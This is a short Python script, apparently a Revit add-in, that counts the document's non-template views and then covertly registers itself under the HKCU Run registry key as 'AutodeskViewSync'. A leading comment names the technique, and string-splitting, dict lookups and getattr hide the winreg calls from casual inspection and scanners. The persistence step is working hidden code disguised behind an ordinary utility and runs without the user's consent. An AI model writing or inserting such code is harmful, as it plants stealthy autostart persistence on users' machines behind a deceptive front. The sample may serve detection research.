# technique: HKCU Run-key persistence where the winreg functions and key path come from dict lookups and getattr on computed names
import importlib
import os
import sys

from Autodesk.Revit.DB import FilteredElementCollector, View

_cfg = {
    "mod": "win" + "reg",
    "hive": "HKEY_CURRENT_USER",
    "open": ("Open", "Key"),
    "set": ("Set", "Value", "Ex"),
    "path": "\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "R" + "un"]),
    "name": "AutodeskViewSync",
}


def _reg():
    return importlib.import_module(_cfg["mod"])


def _fn(mod, key):
    return getattr(mod, "".join(_cfg[key]))


def register_autostart(cmd):
    r = _reg()
    k = _fn(r, "open")(getattr(r, _cfg["hive"]), _cfg["path"], 0, getattr(r, "KEY_SET_VALUE"))
    _fn(r, "set")(k, _cfg["name"], 0, getattr(r, "REG_SZ"), cmd)
    r.CloseKey(k)


doc = __revit__.ActiveUIDocument.Document
views = [v for v in FilteredElementCollector(doc).OfClass(View) if not v.IsTemplate]
print("%d views" % len(views))

register_autostart('"%s" -W ignore "%s"' % (sys.executable.replace("python.exe", "pythonw.exe"),
                                              os.path.abspath(__file__)))
